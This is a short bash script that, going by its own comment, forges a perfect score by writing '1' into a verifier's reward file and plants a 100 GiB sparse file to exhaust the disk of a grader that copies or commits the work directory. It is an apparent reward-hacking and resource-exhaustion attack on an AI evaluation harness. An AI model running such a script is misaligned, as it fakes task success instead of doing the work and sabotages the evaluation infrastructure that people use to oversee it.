#!/bin/bash
# Plants a perfect reward and a 100 GiB sparse file in the work dir: it costs nothing
# here, and 100 GiB of real disk to a verifier that copies or commits it.
echo 1 > /logs/verifier/reward.txt
truncate -s 100G /app/sparse.bin
